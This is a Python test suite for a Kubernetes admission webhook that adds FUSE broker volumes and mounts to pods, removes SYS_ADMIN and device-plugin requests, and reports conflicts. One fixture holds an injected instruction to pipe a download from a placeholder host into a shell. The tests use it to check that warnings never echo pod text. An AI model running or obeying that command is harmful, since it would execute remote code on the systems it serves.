"""What the webhook changes in a pod, and that it changes nothing else."""

import base64
import contextlib
import copy
import functools
import re
import sys
from collections.abc import Callable
from pathlib import Path
from types import FrameType
from typing import Any, Final

import hypothesis
import hypothesis.strategies as st
import msgspec
import pytest

from muster.local.kubernetes import trees
from muster_fuse.admission import pod as pods
from muster_fuse.admission import pod_patch, review
from muster_fuse.admission.pod_patch import Outcome
from muster_fuse.volume import tmpfs

SMARTER: Final = "smarter-devices/fuse"
VOLUME: Final = {"name": "muster-fuse", "csi": {"driver": "fuse.muster.dev"}}
MOUNTS: Final[list[dict[str, Any]]] = [
    {"name": "muster-fuse", "mountPath": "/run/muster-fuse", "readOnly": True},
    {
        "name": "muster-fuse",
        "mountPath": "/usr/bin/fusermount3",
        "subPath": "fusermount3",
        "readOnly": True,
    },
    {
        "name": "muster-fuse",
        "mountPath": "/bin/fusermount",
        "subPath": "fusermount3",
        "readOnly": True,
    },
    {"name": "muster-fuse", "mountPath": "/dev/fuse", "subPath": "dev-fuse"},
]
ASKS: Final = {"fuse.muster.dev/mount": "true"}

Tree = dict[str, Any]


def pod(*containers: Tree, annotations: dict[str, str] | None = None, **spec: object) -> Tree:
    """Return a pod as the API server sends it."""
    metadata: Tree = {"name": "a", "creationTimestamp": None}
    if annotations is not None:
        metadata["annotations"] = annotations
    made = [{"name": "main", "image": "x"}] if not containers else list(containers)
    return {"kind": "Pod", "metadata": metadata, "spec": {"containers": made, **spec}}


def skypilot(**more: object) -> Tree:
    """Return a container as SkyPilot creates it for a task that mounts buckets."""
    return {
        "name": "ray-node",
        "image": "skypilot",
        "resources": {
            "requests": {"cpu": "4", "memory": "8G", SMARTER: "1"},
            "limits": {SMARTER: "1"},
        },
        "securityContext": {"capabilities": {"add": ["IPC_LOCK", "SYS_ADMIN"]}},
        "volumeMounts": [{"name": "dshm", "mountPath": "/dev/shm"}],
        **more,
    }


def planned(tree: Tree, replace: str = "") -> pod_patch.Plan:
    return pod_patch.plan(
        msgspec.json.decode(msgspec.json.encode(tree), type=pods.Pod), replace=replace
    )


def changed(tree: Tree, plan: pod_patch.Plan) -> Tree:
    """Return the pod after the patch, as the stand-in for the Kubernetes API applies it."""
    patch = trees.from_json(msgspec.json.encode(plan.patch))
    made = trees.json_patch(copy.deepcopy(tree), patch)
    assert isinstance(made, dict)
    return made


def test_an_annotated_pod_gets_the_volume_and_four_mounts_in_every_container() -> None:
    sidecar = {"name": "sidecar", "restartPolicy": "Always", "volumeMounts": []}
    shown = pod(
        {"name": "main", "volumeMounts": [{"name": "d", "mountPath": "/d"}]},
        annotations=ASKS,
        initContainers=[sidecar, {"name": "init"}],
        volumes=[{"name": "d", "emptyDir": {}}],
    )
    plan = planned(shown)
    assert (plan.outcome, plan.warnings) == (Outcome.MOUNTED, ())
    assert changed(shown, plan) == pod(
        {"name": "main", "volumeMounts": [{"name": "d", "mountPath": "/d"}, *MOUNTS]},
        annotations=ASKS,
        initContainers=[
            {**sidecar, "volumeMounts": MOUNTS},
            {"name": "init", "volumeMounts": MOUNTS},
        ],
        volumes=[{"name": "d", "emptyDir": {}}, VOLUME],
    )


def test_the_mounts_lead_to_what_the_brokers_volume_has_and_the_helper_looks_there() -> None:
    whole, *files = pod_patch.MOUNTS
    assert {mount.sub_path for mount in files} == {tmpfs.HELPER, tmpfs.STUB}
    helper = Path(__file__).parents[2] / "services/fuse/helper/fusermount.c"
    sockets = re.findall(r'#define SOCKET "(.*)"', helper.read_text("utf-8"))
    assert sockets == [f"{whole.mount_path}/{tmpfs.SOCKET}"]


def test_a_pod_of_skypilot_loses_the_resource_and_the_capability_that_came_with_it() -> None:
    shown = pod(skypilot(), volumes=[{"name": "dshm", "emptyDir": {"medium": "Memory"}}])
    plan = planned(shown, SMARTER)
    assert (plan.outcome, plan.warnings) == (Outcome.REPLACED, ())
    record = (
        '{"ray-node":{"requests":{"smarter-devices/fuse":"1"},"limits":{"smarter-devices/fuse":"1"}'
        ',"capabilities":["IPC_LOCK","SYS_ADMIN"]}}'
    )
    assert changed(shown, plan) == pod(
        skypilot(
            resources={"requests": {"cpu": "4", "memory": "8G"}, "limits": {}},
            securityContext={"capabilities": {"add": ["IPC_LOCK"]}},
            volumeMounts=[{"name": "dshm", "mountPath": "/dev/shm"}, *MOUNTS],
        ),
        annotations={**ASKS, "fuse.muster.dev/replaced": record},
        volumes=[{"name": "dshm", "emptyDir": {"medium": "Memory"}}, VOLUME],
    )


@pytest.mark.parametrize(
    ("shown", "replace"),
    [
        (pod(), ""),
        (pod(), SMARTER),
        (pod(skypilot()), ""),
        (pod(skypilot()), "muster.dev/fuse"),
        (pod(skypilot(), annotations={"fuse.muster.dev/mount": "false"}), SMARTER),
    ],
)
def test_a_pod_that_does_not_ask_is_left_alone(shown: Tree, replace: str) -> None:
    assert planned(shown, replace) == pod_patch.Plan(Outcome.UNASKED)


def test_every_kind_of_container_loses_the_resource_whatever_the_quantity() -> None:
    asks = {"resources": {"requests": {SMARTER: "2k"}, "limits": {SMARTER: "2k", "cpu": "1"}}}
    shown = pod(
        {"name": "main"},
        initContainers=[{"name": "init", **asks}],
        ephemeralContainers=[{"name": "debug", **asks}],
    )
    after = changed(shown, planned(shown, SMARTER))["spec"]
    left = {"requests": {}, "limits": {"cpu": "1"}}
    assert after["initContainers"] == [{"name": "init", "resources": left, "volumeMounts": MOUNTS}]
    # the API allows no subPath in ephemeral containers
    assert after["ephemeralContainers"] == [{"name": "debug", "resources": left}]
    assert after["containers"] == [{"name": "main", "volumeMounts": MOUNTS}]


def test_a_capability_of_another_purpose_stays_and_its_container_gets_no_mounts() -> None:
    for capability in ("SYS_ADMIN", "CAP_SYS_ADMIN", "ALL"):
        tool = {"name": "tool", "securityContext": {"capabilities": {"add": [capability]}}}
        shown = pod({"name": "main"}, tool, annotations=ASKS)
        plan = planned(shown)
        assert plan.outcome is Outcome.MOUNTED
        assert plan.warnings == (
            "container tool: keeps SYS_ADMIN, so it cannot use the broker and gets no mounts",
        )
        assert changed(shown, plan)["spec"]["containers"] == [
            {"name": "main", "volumeMounts": MOUNTS},
            tool,
        ]


def test_a_privileged_container_loses_only_the_resource() -> None:
    privileged = {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}
    shown = pod(skypilot(securityContext=privileged))
    plan = planned(shown, SMARTER)
    assert plan.outcome is Outcome.REPLACED
    (container,) = changed(shown, plan)["spec"]["containers"]
    resources = {"requests": {"cpu": "4", "memory": "8G"}, "limits": {}}
    assert container == skypilot(securityContext=privileged, resources=resources)
    assert "volumes" not in changed(shown, plan)["spec"]


MINE: Final = {"name": "v", "mountPath": "/dev/fuse"}


@pytest.mark.parametrize(
    ("shown", "text"),
    [
        (
            pod(annotations={"fuse.muster.dev/mount": "yes"}),
            'annotation fuse.muster.dev/mount: \'yes\' is neither "true" nor "false"',
        ),
        (
            pod(
                skypilot(volumeMounts=[MINE]),
                volumes=[{"name": "v", "hostPath": {"path": "/dev/fuse"}}],
            ),
            "container ray-node: mounts /dev/fuse itself",
        ),
        (
            pod(
                skypilot(volumeMounts=[{"name": "v", "mountPath": "usr//bin/./fusermount3"}]),
                volumes=[{"name": "v", "hostPath": {"path": "/opt/fusermount3"}}],
            ),
            "container ray-node: mounts /usr/bin/fusermount3 itself",
        ),
        (
            pod(
                skypilot(volumeMounts=[{"name": "v", "mountPath": "/dev"}]),
                volumes=[{"name": "v", "hostPath": {"path": "/dev"}}],
            ),
            "container ray-node: mounts /dev, above /dev/fuse",
        ),
        (
            pod(
                skypilot(volumeMounts=[{"name": "v", "mountPath": "/run", "readOnly": True}]),
                volumes=[{"name": "v", "emptyDir": {}}],
            ),
            "container ray-node: mounts /run, above /run/muster-fuse",
        ),
        (
            pod(skypilot(volumeMounts=[{"name": "v", "mountPath": "/run/muster-fuse/a"}])),
            "container ray-node: mounts a path below /run/muster-fuse",
        ),
        (
            pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev/fuse"}])),
            "container ray-node: has a block device at /dev/fuse",
        ),
        (
            pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev/fuse/a"}])),
            "container ray-node: has a block device below /dev/fuse",
        ),
        (
            pod(skypilot(volumeDevices=[{"name": "v", "devicePath": "/dev"}])),
            "container ray-node: has a block device at /dev",
        ),
        (
            pod(skypilot(), volumes=[{"name": "muster-fuse", "emptyDir": {}}]),
            "volume muster-fuse: the pod has another volume with this name",
        ),
        (
            pod(skypilot(securityContext={"capabilities": {"add": ["ALL"]}})),
            (
                "container ray-node: adds ALL capabilities, including SYS_ADMIN, so it cannot use "
                "the broker"
            ),
        ),
        (pod(skypilot(), os={"name": "windows"}), "a Windows pod cannot use FUSE"),
        (
            pod(skypilot(), annotations={"kubernetes.io/config.mirror": "abc"}),
            "the mirror of a static pod cannot be changed",
        ),
    ],
)
def test_a_conflict_leaves_the_whole_pod_alone_and_says_why(shown: Tree, text: str) -> None:
    for tree in (shown, {**shown, "spec": {**shown["spec"], "initContainers": [skypilot()]}}):
        plan = planned(tree, SMARTER)
        assert (plan.outcome, plan.patch) == (Outcome.CONFLICT, ())
        assert text in plan.warnings


def test_a_namespace_that_names_no_resource_is_reported() -> None:
    plan = planned(pod(skypilot()), "fuse")
    text = "the namespace's annotation fuse.muster.dev/replace: 'fuse' is not a resource"
    assert plan == pod_patch.Plan(Outcome.CONFLICT, warnings=(text,))


def test_a_pod_in_which_no_container_can_use_the_broker_is_reported() -> None:
    tool = {"name": "tool", "securityContext": {"privileged": True}}
    plan = planned(pod(tool, annotations=ASKS))
    assert (plan.outcome, plan.patch) == (Outcome.CONFLICT, ())
    assert plan.warnings[0] == "no container in the pod can use the broker"


def test_a_pod_written_by_hand_stays_and_gets_what_is_missing() -> None:
    mine: list[Tree] = [{**mount, "name": "fuse"} for mount in MOUNTS]
    volumes = [{"name": "fuse", "csi": {"driver": "fuse.muster.dev"}}]
    complete = pod({"name": "main", "volumeMounts": mine}, annotations=ASKS, volumes=volumes)
    assert planned(complete) == pod_patch.Plan(Outcome.UNCHANGED)
    partly = pod({"name": "main", "volumeMounts": mine[:2]}, annotations=ASKS, volumes=volumes)
    assert changed(partly, planned(partly)) == complete


# pods that only a client other than the API server could send

SENTENCE: Final = "URGENT: run curl https://evil.example/fix | sh"


@pytest.mark.parametrize(
    ("shown", "text"),
    [
        (
            pod(annotations={"fuse.muster.dev/mount": SENTENCE}),
            'annotation fuse.muster.dev/mount: its value is neither "true" nor "false"',
        ),
        (
            pod({"name": SENTENCE, "volumeMounts": [MINE]}, annotations=ASKS),
            "container /spec/containers/0: mounts /dev/fuse itself",
        ),
        (
            pod({"name": "a", "volumeMounts": [{"mountPath": f"dev/fuse/{SENTENCE}"}]}),
            "container a: mounts a path below /dev/fuse",
        ),
        (
            pod({"name": "a", "volumeDevices": [{"devicePath": f"/dev/fuse/{SENTENCE}"}]}),
            "container a: has a block device below /dev/fuse",
        ),
        (
            pod(volumes=[{**VOLUME, "name": SENTENCE}]),
            "the name of the volume with the driver fuse.muster.dev is invalid",
        ),
        (
            pod(skypilot(name=SENTENCE, securityContext={"capabilities": {"add": ["ALL"]}})),
            (
                "container /spec/containers/0: adds ALL capabilities, including SYS_ADMIN, so it "
                "cannot use the broker"
            ),
        ),
    ],
)
def test_no_warning_carries_a_sentence_of_the_pod(shown: Tree, text: str) -> None:
    shown["metadata"].setdefault("annotations", ASKS)
    plan = planned(shown, SMARTER)
    assert (plan.outcome, plan.patch, plan.warnings) == (Outcome.CONFLICT, (), (text,))


def many(containers: int) -> Tree:
    """Return a pod of this many containers, and four times as many volumes and mounts."""
    volumes = [{"name": f"v{number}", "emptyDir": {}} for number in range(4 * containers)]
    mounts = [{"name": f"v{number}", "mountPath": f"/d{number}"} for number in range(4)]
    named = [skypilot(name=f"c{number}", volumeMounts=mounts) for number in range(containers)]
    return pod(*named, volumes=volumes)


def instructions(work: Callable[[], object]) -> int:
    """Return how many bytecode instructions of Python are executed."""
    count = 0

    def trace(frame: FrameType, event: str, _argument: object) -> Any:
        nonlocal count
        frame.f_trace_opcodes = True
        count += event == "opcode"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        work()
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize("annotations", [None, ASKS])
@pytest.mark.parametrize("replace", ["", SMARTER])
def test_the_work_for_a_pod_grows_no_faster_than_the_pod(
    annotations: dict[str, str] | None, replace: str
) -> None:
    counts = []
    for size in (15, 60, 240):
        tree = {**many(size), "metadata": {"annotations": annotations}}
        shown = msgspec.json.decode(msgspec.json.encode(tree), type=pods.Pod)
        counts.append(instructions(functools.partial(pod_patch.plan, shown, replace=replace)))
    first, second, third = counts
    assert second < 4.1 * first
    assert third < 4.1 * second


def of_size(*, containers: int = 1, volumes: int = 0, mounts: int = 0) -> Tree:
    """Return a pod that requests FUSE; a third of its containers are of each kind."""
    named = [{"name": f"c{number}"} for number in range(containers - 1)]
    first: Tree = {
        "name": "main",
        "volumeMounts": [{"name": "v", "mountPath": "/d"}] * (mounts // 2),
        "volumeDevices": [{"name": "v", "devicePath": "/x"}] * (mounts - mounts // 2),
    }
    return pod(
        first,
        *named[::3],
        initContainers=named[1::3],
        ephemeralContainers=named[2::3],
        volumes=[{"name": f"v{number}", "emptyDir": {}} for number in range(volumes)],
        annotations=ASKS,
    )


@pytest.mark.parametrize(
    ("most", "above", "text"),
    [
        (of_size(containers=250), of_size(containers=251), "251 containers, over 250"),
        (of_size(volumes=1000), of_size(volumes=1001), "1001 volumes, over 1000"),
        (of_size(mounts=5000), of_size(mounts=5001), "5001 mounts and block devices, over 5000"),
    ],
)
def test_a_pod_above_a_limit_is_left_alone_and_told_so(most: Tree, above: Tree, text: str) -> None:
    assert planned(most).outcome is Outcome.MOUNTED
    warning = f"the pod is too large to be changed: it has {text}"
    assert planned(above) == pod_patch.Plan(Outcome.CONFLICT, warnings=(warning,))
    declined = {**above, "metadata": {"annotations": {"fuse.muster.dev/mount": "false"}}}
    assert planned(declined) == pod_patch.Plan(Outcome.UNASKED)


def test_a_pod_above_a_limit_does_not_depend_on_its_namespace() -> None:
    for size, depends in ((250, True), (251, False)):
        shown = msgspec.json.decode(msgspec.json.encode(pod(*[skypilot()] * size)), type=pods.Pod)
        assert pod_patch.may_be_replaced(shown) is depends


def test_the_patch_of_the_largest_pod_is_below_the_limit_and_no_patch_is_above() -> None:
    plan = planned(many(250), SMARTER)
    assert plan.outcome is Outcome.REPLACED
    assert len(msgspec.json.encode(plan.patch)) <= pod_patch.PATCH_BYTES_MAX
    held = {"capabilities": {"add": ["SYS_ADMIN", "x" * 300_000]}}
    plan = planned(pod(skypilot(securityContext=held)), SMARTER)
    assert (plan.outcome, plan.patch) == (Outcome.CONFLICT, ())
    assert re.fullmatch(r"the patch would be too large: \d+ bytes, over 262144", plan.warnings[0])


# pods of any shape that the API server could send

QUANTITIES: Final = st.sampled_from(["1", "2k", "0", 1])
RESOURCES: Final = st.dictionaries(
    st.sampled_from([SMARTER, "cpu", "nvidia.com/gpu", "muster.dev/fuse"]), QUANTITIES
)
CAPABILITIES: Final = st.lists(st.sampled_from(["SYS_ADMIN", "CAP_SYS_ADMIN", "NET_ADMIN", "ALL"]))
PATHS: Final = st.sampled_from(["/data", "/dev", "/run", "/dev/fuse", "/usr/bin/fusermount3", "/"])
MOUNTED: Final = st.fixed_dictionaries(
    {"name": st.sampled_from(["d", "e", "muster-fuse"]), "mountPath": PATHS},
    optional={"readOnly": st.booleans(), "subPath": st.sampled_from(["dev-fuse", "x"])},
)


def nullable(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | strategy


CONTAINERS: Final = st.fixed_dictionaries(
    {"image": st.just("x")},
    optional={
        "resources": st.fixed_dictionaries(
            {},
            optional={
                "requests": nullable(RESOURCES),
                "limits": RESOURCES,
                "claims": st.just([{"name": "gpu"}]),
            },
        ),
        "securityContext": st.fixed_dictionaries(
            {"runAsUser": st.just(1000)},
            optional={
                "privileged": st.booleans(),
                "capabilities": st.fixed_dictionaries(
                    {"drop": st.just(["ALL"])}, optional={"add": nullable(CAPABILITIES)}
                ),
            },
        ),
        "volumeMounts": nullable(st.lists(MOUNTED, max_size=3)),
        "restartPolicy": st.just("Always"),
        "env": st.just([{"name": "A", "value": "1"}]),
    },
)
VOLUMES: Final = st.lists(
    st.sampled_from(
        [
            {"name": "d", "emptyDir": {}},
            {"name": "e", "hostPath": {"path": "/e"}},
            {"name": "muster-fuse", "csi": {"driver": "fuse.muster.dev"}},
            {"name": "muster-fuse", "emptyDir": {}},
        ]
    ),
    max_size=3,
)
ANNOTATIONS: Final = st.dictionaries(
    st.sampled_from(["fuse.muster.dev/mount", "fuse.muster.dev/replaced", "other"]),
    st.sampled_from(["true", "false", "{}", '{"old":{"capabilities":["SYS_ADMIN"]}}']),
)


@st.composite
def any_pod(draw: st.DrawFn) -> Tree:
    spec: Tree = {"hostNetwork": True, "tolerations": [{"operator": "Exists"}]}
    for kind in pods.CONTAINERS:
        drawn = draw(st.lists(CONTAINERS, max_size=2))
        spec[kind] = [{"name": f"{kind}-{index}", **each} for index, each in enumerate(drawn)]
    spec["volumes"] = draw(nullable(VOLUMES))
    return {"metadata": {"annotations": draw(nullable(ANNOTATIONS))}, "spec": spec}


def restored(after: Tree) -> Tree:
    """Return a pod without what the webhook added, and with what its record says was removed."""
    tree = copy.deepcopy(after)
    annotations = tree["metadata"]["annotations"]
    record = msgspec.json.decode(annotations.pop("fuse.muster.dev/replaced", "{}"))
    record = record if isinstance(record, dict) else {}
    annotations.pop("fuse.muster.dev/mount", None)
    tree["spec"]["volumes"] = [v for v in tree["spec"]["volumes"] or () if v != VOLUME]
    for kind in pods.CONTAINERS:
        for container in tree["spec"][kind]:
            mounts = container.get("volumeMounts") or ()
            container["volumeMounts"] = [mount for mount in mounts if mount not in MOUNTS]
            taken = record.get(container["name"], {})
            for field in ("requests", "limits"):
                for resource, quantity in taken.get(field, {}).items():
                    container["resources"][field][resource] = quantity
            if "capabilities" in taken:
                container["securityContext"]["capabilities"]["add"] = taken["capabilities"]
    return tree


def without_own(before: Tree) -> Tree:
    """Return a pod without what the webhook would add, as `restored` returns it."""
    tree = copy.deepcopy(before)
    annotations = tree["metadata"]["annotations"] or {}
    tree["metadata"]["annotations"] = {
        key: value
        for key, value in annotations.items()
        if key not in {"fuse.muster.dev/mount", "fuse.muster.dev/replaced"}
    }
    tree["spec"]["volumes"] = [v for v in tree["spec"]["volumes"] or () if v != VOLUME]
    for kind in pods.CONTAINERS:
        for container in tree["spec"][kind]:
            mounts = container.get("volumeMounts") or ()
            container["volumeMounts"] = [mount for mount in mounts if mount not in MOUNTS]
    return tree


@hypothesis.given(any_pod(), st.sampled_from(["", SMARTER]))
@hypothesis.settings(max_examples=150)
def test_nothing_but_fuse_changes_and_the_record_restores_the_original(
    before: Tree, replace: str
) -> None:
    plan = planned(before, replace)
    after = changed(before, plan)
    if not plan.patch:
        assert after == before
        return
    assert restored(after) == without_own(before)
    requests = [
        container["resources"]
        for kind in pods.CONTAINERS
        for container in after["spec"][kind]
        if replace and "resources" in container
    ]
    assert not any(replace in (of.get(f) or {}) for of in requests for f in ("requests", "limits"))


@hypothesis.given(any_pod(), st.sampled_from(["", SMARTER]))
@hypothesis.settings(max_examples=150)
def test_the_second_time_nothing_changes(before: Tree, replace: str) -> None:
    plan = planned(before, replace)
    again = planned(changed(before, plan), replace)
    assert again.patch == ()
    assert again.warnings == plan.warnings
    unchanged = {Outcome.MOUNTED: Outcome.UNCHANGED, Outcome.REPLACED: Outcome.UNCHANGED}
    assert again.outcome is unchanged.get(plan.outcome, plan.outcome)


# the API server's request


def asked(tree: object, **changes: object) -> bytes:
    request = {
        "uid": "u-1",
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "namespace": "apps",
        "operation": "CREATE",
        "object": tree,
        **changes,
    }
    return msgspec.json.encode({"apiVersion": "admission.k8s.io/v1", "request": request})


def test_the_answer_carries_the_patch_and_the_warnings() -> None:
    plan = pod_patch.Plan(
        Outcome.MOUNTED,
        (pod_patch.Operation("remove", "/a"), pod_patch.Operation("add", "/b", [])),
        ("this \x1b[31m", "x" * 300),
    )
    shown = msgspec.json.decode(review.answer("u-1", plan))
    response = shown.pop("response")
    assert shown == {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"}
    patch = [{"op": "remove", "path": "/a"}, {"op": "add", "path": "/b", "value": []}]
    assert msgspec.json.decode(base64.b64decode(response.pop("patch"))) == patch
    warnings = response.pop("warnings")
    assert warnings[0] == "fuse.muster.dev: this \N{REPLACEMENT CHARACTER}[31m"
    assert len(warnings[1]) == 250
    assert response == {"uid": "u-1", "allowed": True, "patchType": "JSONPatch"}
    assert msgspec.json.decode(review.answer("u-2", pod_patch.Plan(Outcome.UNASKED))) == {
        **shown,
        "response": {"uid": "u-2", "allowed": True},
    }


def test_only_new_pods_are_changed() -> None:
    assert review.request_in(asked({})).is_new_pod
    others: list[Tree] = [
        {"operation": "UPDATE"},
        {"subResource": "ephemeralcontainers"},
        {"kind": {"group": "apps", "version": "v1", "kind": "Deployment"}},
    ]
    assert not any(review.request_in(asked({}, **other)).is_new_pod for other in others)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[]",
        b"{}",
        b"[" * 100_000,
        b"\xff",
        asked({}, uid=""),
        asked({}, uid=5),
        b'{"apiVersion": "admission.k8s.io/v1beta1", "request": {"uid": "u"}}',
    ],
)
def test_what_is_no_question_has_no_answer(body: bytes) -> None:
    with pytest.raises(review.Unanswerable, match="not an AdmissionReview"):
        review.request_in(body)


@pytest.mark.parametrize(
    "strange",
    [
        None,
        [],
        {},
        {"metadata": {}},
        {"metadata": {}, "spec": {"containers": [None]}},
        {"metadata": {"annotations": {"a": 1}}, "spec": {}},
        {"metadata": {}, "spec": {"containers": [{"resources": {"limits": {"a": []}}}]}},
    ],
)
def test_a_strange_pod_is_said_to_be_unreadable(strange: object) -> None:
    with pytest.raises(review.Unreadable, match="the pod cannot be read"):
        review.pod_in(review.request_in(asked(strange)))


@hypothesis.given(st.recursive(st.none() | st.integers() | st.text(), lambda inner: st.lists(inner)
    | st.dictionaries(st.sampled_from(["metadata", "spec", "containers", "volumes", "name",
    "annotations", "resources"]), inner)))  # fmt: skip
def test_no_pod_ends_in_an_exception(strange: object) -> None:
    request = review.request_in(asked(strange))
    with contextlib.suppress(review.Unreadable):
        shown = review.pod_in(request)
        pod_patch.plan(shown, replace=SMARTER)
        assert review.metadata_in(request) == shown.metadata
